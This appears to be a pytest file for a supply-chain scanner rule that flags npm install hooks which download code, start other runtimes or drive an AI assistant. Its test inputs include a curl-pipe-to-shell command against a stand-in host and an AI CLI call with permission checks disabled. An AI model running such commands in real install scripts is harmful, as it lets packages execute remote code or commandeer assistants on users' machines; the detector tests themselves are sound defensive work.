import json

import pytest

from inspector.core.severity import Severity
from inspector.core.view import ArtifactView
from inspector.rules.run.run_lifecycle_download import RunLifecycleDownload
from tests.rules.view_builder import view_of

RULE = RunLifecycleDownload()


def package(command: str, hook: str = "postinstall") -> ArtifactView:
    manifest = {"name": "demo", "version": "1.0.0", "scripts": {hook: command}}
    return view_of({"package/package.json": json.dumps(manifest).encode()})


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("curl -s https://x.example/i.sh | sh", "pipes something into a shell, downloads something"),
        ("node setup.js && bun run bundle.js", "starts another runtime"),
        ("python3 build.py", "starts another runtime"),
        ("claude --dangerously-skip-permissions -p find", "drives an AI assistant"),
    ],
)
def test_flags_what_is_foreign(command: str, says: str) -> None:
    (finding,) = RULE.check(package(command))
    assert finding.severity is Severity.HIGH
    assert finding.message == f"The script `postinstall` {says}."


def test_flags_an_inline_program_milder() -> None:
    (finding,) = RULE.check(package("node -e \"try{require('./x')}catch(e){}\"", "install"))
    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "command", ["node-gyp rebuild", "node scripts/install.js", "prebuild-install || node-gyp rebuild"]
)
def test_clean_commands(command: str) -> None:
    assert not list(RULE.check(package(command)))
    assert not list(RULE.check(package("curl https://x.example", "test")))
